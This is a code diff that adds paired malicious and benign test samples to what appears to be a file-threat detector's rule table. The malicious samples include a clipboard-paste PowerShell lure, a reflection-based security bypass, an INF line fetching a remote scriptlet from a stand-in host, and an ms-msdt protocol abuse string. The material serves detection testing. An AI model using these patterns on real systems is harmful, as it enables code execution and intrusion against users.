@@ -99,5 +99,37 @@ export const RULE_SAMPLES: Readonly<Record<string, RuleSample>> = {
   ),
   onenote_embedded_program: sample(Buffer.concat([oneNoteHeader, oneNoteFile]), oneNoteHeader),
   disk_image_with_program: sample(isoWith('SETUP.EXE'), isoWith('README.TXT')),
+  command_for_the_clipboard: sample(
+    '<p>Press Win + R, then Ctrl + V</p><script>navigator.clipboard.writeText("powershell -w 1 x")</script>',
+    '<p>Press Ctrl + V</p><script>navigator.clipboard.writeText("npm install")</script>',
+  ),
+  batch_behind_wide_mark: sample(
+    '\xff\xfe&cls\r\n@echo off\r\n',
+    Buffer.concat([Buffer.from([255, 254]), wide('@echo off')]),
+  ),
+  protection_switched_off_by_reflection: sample(
+    '$t.GetField("x", "NonPublic,Static").SetValue($null, 1) # System.Management.Automation',
+    '$t.GetField("x", "Public,Static").SetValue($null, 1) # System.Management.Automation',
+  ),
+  folder_settings_to_remote_place: sample(
+    '[.ShellClassInfo]\r\nIconResource=\\\\host.example\\x.ico,0',
+    '[.ShellClassInfo]\r\nIconResource=C:\\x.ico,0',
+  ),
+  setup_information_runs_script: sample(
+    '[UnRegisterOCXs]\r\n%11%\\scrobj.dll,NI,http://host.example/a.sct',
+    '[RegisterOCXs]\r\n%11%\\driver.dll',
+  ),
+  console_file_with_script: sample(
+    '<MMC_ConsoleFile><String>res://apds.dll/redirect.html</String></MMC_ConsoleFile>',
+    '<MMC_ConsoleFile><String>Event viewer</String></MMC_ConsoleFile>',
+  ),
+  installer_from_the_network: sample(
+    '<jnlp codebase="http://host.example/"><security><all-permissions/></security></jnlp>',
+    '<jnlp codebase="http://host.example/"><security/></jnlp>',
+  ),
+  windows_protocol_command: sample(
+    'ms-msdt:/id PCWDiagnostic /param "IT_BrowseForFile=x"',
+    'ms-msdt: starts the support diagnostics',
+  ),
   program_in_base64: sample(`TVqQ${'A'.repeat(70)}${dosMessage}`, `TVqQ${'A'.repeat(70)} a picture`),
 };
